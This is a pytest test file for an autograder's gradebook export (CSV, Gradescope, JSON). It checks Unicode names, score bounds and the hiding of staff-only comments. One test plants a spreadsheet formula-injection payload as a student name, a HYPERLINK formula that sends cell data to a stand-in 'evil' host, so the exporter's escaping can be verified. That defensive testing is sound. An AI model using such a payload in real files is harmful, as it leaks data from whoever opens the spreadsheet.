"""Exports: no formula runs, no letter is lost, no score is impossible."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from autograder.cli import run
from autograder.gradebook import Gradebook
from autograder.returning.export import guarded
from tests.returning.made import ESSAY, handed_in, marked, result


def export(course: Path, kind: str, to: Path) -> int:
    return run(["--course", str(course), "export", "scale", "--format", kind, "--to", str(to)])


def rows(file: Path) -> list[dict[str, str]]:
    with file.open(encoding="utf-8-sig", newline="") as opened:
        return list(csv.DictReader(opened))


class TestCsv:
    def test_a_row_a_student(self, tiny: Path, book: Gradebook, tmp_path: Path) -> None:
        marked(book, handed_in(book, tiny, tmp_path, "s1", "Ada", result(tiny, lost=("affine.values",))), 12.5)
        handed_in(book, tiny, tmp_path, "s2", "Ben")
        assert export(tiny, "csv", tmp_path / "out.csv") == 0
        ada, ben = rows(tmp_path / "out.csv")
        assert (ada["sid"], ada["name"], ada["score"], ada["max_score"], ada["pending"]) == ("s1", "Ada", "72.5", "100", "0")
        assert (ada["affine.values"], ada[ESSAY], ada["late"], ada["attempt"]) == ("0", "12.5", "no", "1")
        assert (ben["score"], ben["pending"], ben[ESSAY]) == ("80", "20", ""), "what is open is empty, not 0"

    def test_unicode_and_right_to_left_names_come_back(self, tiny: Path, book: Gradebook, tmp_path: Path) -> None:
        names = {"s1": "Zoë Ångström", "s2": "محمد \u200fعلي", "s3": "陳大文 🙂", "s4": 'O"Neil, "Bo"\nJr.'}
        for sid, name in names.items():
            handed_in(book, tiny, tmp_path, sid, name)
        export(tiny, "csv", tmp_path / "out.csv")
        assert {row["sid"]: row["name"] for row in rows(tmp_path / "out.csv")} == names

    def test_spreadsheets_read_it_as_utf_8(self, tiny: Path, book: Gradebook, tmp_path: Path) -> None:
        handed_in(book, tiny, tmp_path, "s1", "Zoë")
        export(tiny, "csv", tmp_path / "out.csv")
        assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbfsid,")

    def test_a_name_is_no_formula(self, tiny: Path, book: Gradebook, tmp_path: Path) -> None:
        planted = '=HYPERLINK("http://evil/?"&A1,"x")'
        handed_in(book, tiny, tmp_path, "-1+2", planted)
        export(tiny, "csv", tmp_path / "out.csv")
        [row] = rows(tmp_path / "out.csv")
        assert (row["sid"], row["name"]) == ("'-1+2", f"'{planted}")

    @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＠"])
    def test_every_beginning_of_a_formula_is_guarded(self, first: str) -> None:
        assert guarded(f"{first}1") == f"'{first}1"

    @pytest.mark.parametrize("cell", ["Ada;=1+2", "Ada\t@x", "Ada\n=1", " =1", "\u00a0=1", "a;;-1", "=1;=2", "\t=1"])
    @pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
    def test_no_cell_begins_with_a_formula_whatever_the_separator(self, cell: str, delimiter: str) -> None:
        """A spreadsheet may cut the line elsewhere than it was written to be cut."""
        text = io.StringIO()
        csv.writer(text).writerow(["s1", guarded(cell), "x"])
        cells = [one for row in csv.reader(io.StringIO(text.getvalue()), delimiter=delimiter) for one in row]
        assert [one for one in cells if one.strip().startswith(("=", "+", "-", "@"))] == []

    @pytest.mark.parametrize("cell", ["Ada", "a=b", "", "O'Neil-Smith; B", 3, -0.5])
    def test_nothing_else_is_touched(self, cell: object) -> None:
        assert guarded(cell) == cell

    def test_a_student_who_is_not_graded_has_no_score(self, tiny: Path, book: Gradebook, tmp_path: Path) -> None:
        from tests.gradebook.made import attempt

        attempt(book, tmp_path, "s1", assignment="scale")
        export(tiny, "csv", tmp_path / "out.csv")
        [row] = rows(tmp_path / "out.csv")
        assert (row["sid"], row["score"], row["max_score"]) == ("s1", "", "")


class TestBounds:
    @pytest.mark.parametrize("kind", ["csv", "gradescope", "json"])
    def test_above_the_maximum(
        self, tiny: Path, book: Gradebook, tmp_path: Path, kind: str, capsys: pytest.CaptureFixture[str]
    ) -> None:
        marked(book, handed_in(book, tiny, tmp_path, "s1"), 21)
        assert export(tiny, kind, tmp_path / "out") == 2
        assert "s1, why.reason: 21 points are not from 0 to 20." in capsys.readouterr().err
        assert not (tmp_path / "out").exists()

    def test_below_0(self, tiny: Path, book: Gradebook, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        made = result(tiny)
        criteria = [c.model_copy(update={"score": -3.0}) if c.id == "affine.values" else c for c in made.criteria]
        handed_in(book, tiny, tmp_path, "s1", made=made.model_copy(update={"criteria": tuple(criteria)}))
        assert export(tiny, "csv", tmp_path / "out.csv") == 2
        assert "s1, affine.values: -3 points are not from 0 to 20." in capsys.readouterr().err

    def test_a_total_that_is_more_than_there_is(
        self, tiny: Path, book: Gradebook, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        handed_in(book, tiny, tmp_path, "s1", made=result(tiny).model_copy(update={"max_score": 50.0}))
        assert export(tiny, "csv", tmp_path / "out.csv") == 2
        assert "s1: a total of 80 points is not from 0 to 50. Grade this submission again." in capsys.readouterr().err


class TestGradescope:
    def read(self, tiny: Path, book: Gradebook, tmp_path: Path) -> dict[str, Any]:
        one = handed_in(book, tiny, tmp_path, "s1", made=result(tiny, lost=("affine.values",)))
        marked(book, one, 10, comment="Nearly.")
        assert export(tiny, "gradescope", tmp_path / "out") == 0
        found: dict[str, Any] = json.loads((tmp_path / "out/s1/results.json").read_text(encoding="utf-8"))
        return found

    def test_scores_with_marks(self, tiny: Path, book: Gradebook, tmp_path: Path) -> None:
        found = self.read(tiny, book, tmp_path)
        assert found["score"] == 70
        assert sum(test["max_score"] for test in found["tests"]) == 100

    def test_comments_are_there_and_details_not(self, tiny: Path, book: Gradebook, tmp_path: Path) -> None:
        found = self.read(tiny, book, tmp_path)
        [essay] = [test for test in found["tests"] if ESSAY.split(".")[0] in test["tags"]]
        assert "A reason is named, but not explained.\nNearly." in essay["output"]
        assert "STAFF ONLY" not in json.dumps(found)


class TestJson:
    def test_it_says_who_decided(self, tiny: Path, book: Gradebook, tmp_path: Path) -> None:
        marked(book, handed_in(book, tiny, tmp_path, "s1", "Zoë"), 10, comment="Nearly.")
        handed_in(book, tiny, tmp_path, "s2")
        assert export(tiny, "json", tmp_path / "out.json") == 0
        text = (tmp_path / "out.json").read_text(encoding="utf-8")
        zoe, other = json.loads(text)
        assert "Zoë" in text
        assert "STAFF ONLY" not in text
        assert zoe["criteria"][-1] == {
            "id": ESSAY, "points": 20, "score": 10, "decided_by": "mark", "verdict": "FAIL", "mistake": None, "comment": "Nearly.",
        }  # fmt: skip
        assert (other["criteria"][-1]["score"], other["criteria"][-1]["decided_by"]) == (None, "pending")
        assert zoe["pseudonym"] != "Zoë"

    def test_a_folder_that_is_missing(self, tiny: Path, book: Gradebook, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        assert export(tiny, "json", tmp_path / "no/out.json") == 2
        assert "no does not exist. Make this folder, or name another with --to." in capsys.readouterr().err
